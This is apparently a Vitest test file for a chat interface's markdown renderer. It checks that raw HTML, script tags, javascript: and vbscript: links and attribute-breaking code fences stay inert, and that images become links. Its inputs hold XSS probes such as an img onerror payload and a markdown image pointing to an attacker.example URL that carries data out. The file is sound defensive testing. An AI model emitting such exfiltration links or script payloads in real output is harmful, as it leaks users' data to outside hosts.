// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render';

/** Renders into a detached element, as the Markdown component does with innerHTML. */
function mount(markdown: string): HTMLElement {
  const el = document.createElement('div');
  el.innerHTML = renderMarkdown(markdown);
  return el;
}

function hasActiveContent(el: HTMLElement): string[] {
  const found: string[] = [];
  for (const node of el.querySelectorAll('*')) {
    if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'IMG', 'STYLE', 'FORM', 'SVG'].includes(node.tagName.toUpperCase())) {
      found.push(node.tagName);
    }
    for (const attr of node.attributes) {
      if (attr.name.startsWith('on')) found.push(`${node.tagName}[${attr.name}]`);
      if (/^\s*(javascript|vbscript|data):/i.test(attr.value)) found.push(`${node.tagName}[${attr.name}=${attr.value}]`);
    }
  }
  return found;
}

describe('renderMarkdown', () => {
  it('shows raw HTML as text: an <img onerror> is not an element', () => {
    const el = mount('Look: <img src=x onerror=alert(1)> here');
    expect(el.querySelector('img')).toBeNull();
    expect(hasActiveContent(el)).toEqual([]);
    expect(el.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  it('never produces a script element, inline or as a block', () => {
    const el = mount('<script>alert(1)</script>\n\ntext <script>window.x=1</script>');
    expect(el.querySelector('script')).toBeNull();
    expect(hasActiveContent(el)).toEqual([]);
    expect(el.textContent).toContain('<script>alert(1)</script>');
  });

  it('drops javascript: and other script URLs from links', () => {
    const el = mount('[click](javascript:alert(1)) [two](JaVaScRiPt:alert(2)) [three](vbscript:x) <javascript:alert(3)>');
    for (const a of el.querySelectorAll('a')) {
      expect(a.getAttribute('href') ?? '').not.toMatch(/script:/i);
    }
    expect(hasActiveContent(el)).toEqual([]);
  });

  it('keeps ordinary links, opening them without an opener', () => {
    const a = mount('[docs](https://example.org/x)').querySelector('a');
    expect(a?.getAttribute('href')).toBe('https://example.org/x');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(a?.getAttribute('rel')).toContain('noopener');
  });

  it('turns images into links instead of loading them', () => {
    const el = mount('![secret](https://attacker.example/leak?q=data)');
    expect(el.querySelector('img')).toBeNull();
    expect(el.querySelector('a')?.getAttribute('href')).toBe('https://attacker.example/leak?q=data');
  });

  it('keeps attribute-breaking text in code blocks and languages inert', () => {
    const el = mount('```"><img src=x onerror=alert(1)>\n<b onclick="x()">hi</b>\n```');
    expect(hasActiveContent(el)).toEqual([]);
    expect(el.querySelector('b')).toBeNull();
    expect(el.querySelector('code')?.textContent).toContain('<b onclick="x()">hi</b>');
  });

  it('highlights a known language and labels the block', () => {
    const el = mount('```rust\nfn main() { let x = 1; }\n```');
    const code = el.querySelector('.code-block pre code');
    expect(code?.classList.contains('language-rust')).toBe(true);
    expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('fn');
    expect(el.querySelector('.code-lang')?.textContent).toBe('rust');
    expect(code?.textContent).toBe('fn main() { let x = 1; }');
  });

  it('renders GFM: lists, tables, emphasis, line breaks', () => {
    const el = mount('**bold** and *it*\nnext line\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |');
    expect(el.querySelector('strong')?.textContent).toBe('bold');
    expect(el.querySelector('br')).not.toBeNull();
    expect(el.querySelectorAll('li')).toHaveLength(2);
    expect(el.querySelector('table td')?.textContent).toBe('1');
  });

  it('renders an unfinished code fence while streaming', () => {
    const el = mount('Here:\n```python\nprint("hi")');
    expect(el.querySelector('code')?.textContent).toContain('print("hi")');
  });
});
